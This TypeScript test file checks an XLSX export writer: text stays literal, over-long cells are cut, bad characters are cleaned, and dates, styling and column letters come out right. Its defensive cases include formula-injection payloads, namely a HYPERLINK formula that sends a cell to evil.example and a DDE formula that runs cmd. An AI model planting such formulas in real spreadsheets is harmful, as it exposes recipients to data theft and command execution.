import { expect, test } from "vitest";
import { PLACE_SAMPLE } from "../../../content/place.ts";
import { readXlsx } from "../../../tests/support/read/read-xlsx.ts";
import { createZip } from "../../platform/files/zip.server.ts";
import type { Zoned } from "../../ui/format/place-time.ts";
import { type Cell, xlsxFiles } from "./xlsx.server.ts";

const AT = new Date("2025-10-06T09:00:00Z");

async function workbook(cells: Cell[], place: Zoned = PLACE_SAMPLE) {
  async function* batches() {
    yield [cells];
  }
  const columns = cells.map((_, index) => ({ head: `Column ${index + 1}`, width: 20 }));
  const pieces = await Array.fromAsync(
    createZip(xlsxFiles([{ name: "Sheet & <more>", columns, batches: batches(), hasFilter: true }], { at: AT, place })),
  );
  const { sheets, parts } = readXlsx(Buffer.concat(pieces));
  const [sheet] = sheets;
  if (!sheet) throw new Error("The workbook has no sheet.");
  return { sheet, parts };
}

async function written(text: string) {
  return (await workbook([text])).sheet.rows[1]?.[0];
}

test.each([
  ["a formula", '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
  ["a formula of a command", "=cmd|' /C calc'!A0"],
  ["a plus, a minus and an at sign", "+1-2@SUM(A1)"],
  ["markup", "</t></is></c><f>1+1</f> & \"quotes\" 'too' ]]>"],
  ["a phone number with a zero at its start", "08030000000"],
  ["a registration number of 30 digits", "202512345678901234567890123456"],
  ["something like a date", "1-2"],
  ["a right-to-left name", "محمد عبد الله"],
  ["a name with a right-to-left mark", "\u200fאבג\u200e Ada"],
  ["emoji of several code points", "👩🏾‍🎓🇳🇬"],
  ["letters with marks", "Ọmọlará Ẹniọlá"],
  ["spaces and lines", "  two\n\tlines  "],
  ["what looks like an escaped character", "a_x0041_b_X0041_"],
])("a cell keeps %s as text", async (_, text) => {
  const { sheet } = await workbook([text]);
  expect(sheet.rows[1]).toEqual([text]);
  expect(sheet.xml).not.toContain("<f>");
});

test("a cell of 32,767 characters is complete, and a longer one is cut with a visible mark", async () => {
  const longest = "x".repeat(32_767);
  expect(await written(longest)).toBe(longest);
  expect(await written(`${longest}y`)).toBe(`${"x".repeat(32_766)}…`);
});

test("a cell is not cut within an emoji", async () => {
  expect(await written(`${"x".repeat(32_765)}🎓🎓`)).toBe(`${"x".repeat(32_765)}…`);
});

test("characters that XML forbids are removed, and half an emoji is replaced", async () => {
  expect(await written("a\u0000\u0008\u000b\u001f\ufffe\uffffb\ud83cc")).toBe("ab\ufffdc");
});

test("line breaks of every kind become one line break", async () => {
  expect(await written("a\r\nb\rc\nd")).toBe("a\nb\nc\nd");
});

test("a time is a date of the university that a spreadsheet calculates with", async () => {
  const { sheet, parts } = await workbook([new Date("2025-10-06T23:30:00Z")]);
  const day = Date.UTC(2025, 9, 7) / 86_400_000 + 25_569;
  expect(sheet.rows[1]?.[0]).toBeCloseTo(day + 0.5 / 24, 8);
  const format = sheet.styles[1]?.[0] ?? -1;
  expect(parts["xl/styles.xml"]?.match(/<xf [^>]*xfId="0"[^>]*>/g)?.[format]).toContain('numFmtId="164"');
  expect(parts["xl/styles.xml"]).toContain('numFmtId="164" formatCode="yyyy\\-mm\\-dd\\ hh:mm"');
});

test("a time is an hour later in summer where clocks change", async () => {
  const times = [new Date("2026-03-29T00:30:00Z"), new Date("2026-03-29T01:30:00Z")];
  const { sheet } = await workbook(times, { timeZone: "Europe/London" });
  const day = Date.UTC(2026, 2, 29) / 86_400_000 + 25_569;
  expect(Number(sheet.rows[1]?.[0])).toBeCloseTo(day + 0.5 / 24, 8);
  expect(Number(sheet.rows[1]?.[1])).toBeCloseTo(day + 2.5 / 24, 8);
});

test("the heading is bold, stays visible and has a filter over all rows, and columns have their width", async () => {
  const { sheet, parts } = await workbook(["one", "two", ""]);
  expect(sheet.name).toBe("Sheet &amp; <more>".replace("&amp;", "&"));
  expect(sheet.rows[0]).toEqual(["Column 1", "Column 2", "Column 3"]);
  const [, bold] = parts["xl/styles.xml"]?.match(/<font>.*?<\/font>/g) ?? [];
  expect(bold).toContain("<b/>");
  expect(sheet.styles[0]).toEqual([1, 1, 1]);
  expect(sheet.xml).toMatch(/<pane ySplit="1" [^>]*state="frozen"\/>/);
  expect(sheet.xml).toContain('<autoFilter ref="A1:C2"/>');
  expect(parts["xl/workbook.xml"]).toContain("$A$1:$C$2</definedName>");
  expect(sheet.xml).toContain('<col min="3" max="3" width="20" customWidth="1"');
});

test("columns after Z have two letters", async () => {
  const { sheet } = await workbook(Array.from({ length: 30 }, (_, index) => String(index)));
  expect(sheet.xml).toContain('r="AD2"');
  expect(sheet.rows[1]?.[29]).toBe("29");
});
